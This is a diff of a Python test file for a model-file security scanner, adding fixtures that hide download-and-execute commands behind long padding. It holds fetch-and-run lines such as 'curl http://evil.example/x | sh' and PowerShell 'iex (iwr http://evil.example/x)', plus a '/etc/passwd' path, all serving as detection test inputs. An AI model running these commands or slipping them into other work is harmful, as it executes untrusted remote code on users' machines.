@@ -15,7 +15,7 @@ import modelaudit
 from modelaudit.model.limits import MIB
 from modelaudit.model.outline import Reference, ReferenceKind, References
 from modelaudit.model.structure import UnreadReason
-from modelaudit.wire.bounds import build_references, keep_first
+from modelaudit.wire.bounds import build_references, keep_first, keep_first_distinct
 
 DOWNLOAD = "curl http://evil.example/x | sh"
 # Both with zero bytes behind them: the dictionary {"a": 1}, and a call of posix.system.
@@ -123,6 +123,11 @@ def build_checkpoint_state(count: int) -> str:
     return f'model_checkpoint_path: "m"\n{paths}all_model_checkpoint_paths: "/etc/passwd"\n'
 
 
+def build_merge(count: int) -> str:
+    """Return settings of a merge of ``count`` models, and then of one more."""
+    return "merge_method: linear\nmodels:\n" + "".join(f"- model: acme/m{n}\n" for n in range(count + 1))
+
+
 BEYOND: dict[str, tuple[str, Callable[[], str | bytes]]] = {
     "function after namespaces": ("m.pmml", lambda: build_pmml('<Apply function="acmeExec"/>', 5_100)),
     "function after functions": ("m.pmml", lambda: build_pmml(build_calls(5_000))),
@@ -146,6 +151,14 @@ BEYOND: dict[str, tuple[str, Callable[[], str | bytes]]] = {
         "run.bat",
         lambda: "".join(f"set v{n}=1\n" for n in range(501)) + "set c=curl\n%c% http://x.example/ -o x.exe\nx.exe\n",
     ),
+    "command after many characters": ("run.ps1", lambda: f"echo {'a' * 25_000}; iex (iwr http://evil.example/x)\n"),
+    "command in a long variable": (
+        "run.bat",
+        lambda: (
+            f"set a={'b' * 2_000}\necho %a%%a%%a%%a%%a%%a%%a%%a%%a%%a%%a% & powershell iex (iwr http://x.example/)\n"
+        ),
+    ),
+    "model of a merge": ("mergekit_config.yml", lambda: build_merge(2_000)),
     "document in metadata": ("m.safetensors", lambda: build_safetensors(2_001)),
     "pickle in an attribute": ("m.onnx", lambda: build_onnx(1_001)),
     "pickle in a collection": ("saved_model.pb", lambda: build_collections(200_001)),
@@ -187,6 +200,12 @@ def test_keep_first_returns_an_absence_for_items_beyond_the_bound() -> None:
     assert [(each.reason, each.detail) for each in absences] == [
         (UnreadReason.LIMIT, "only the first 3 letters were read")
     ]
+
+
+def test_keep_first_distinct_counts_repeated_items_once() -> None:
+    assert keep_first_distinct("aabb", 2, "letters") == (("a", "b"), ())
+    kept, absences = keep_first_distinct("aabbc", 2, "letters")
+    assert (kept, len(absences)) == (("a", "b"), 1)
 
 
 def test_build_references_counts_repeated_references_once() -> None:
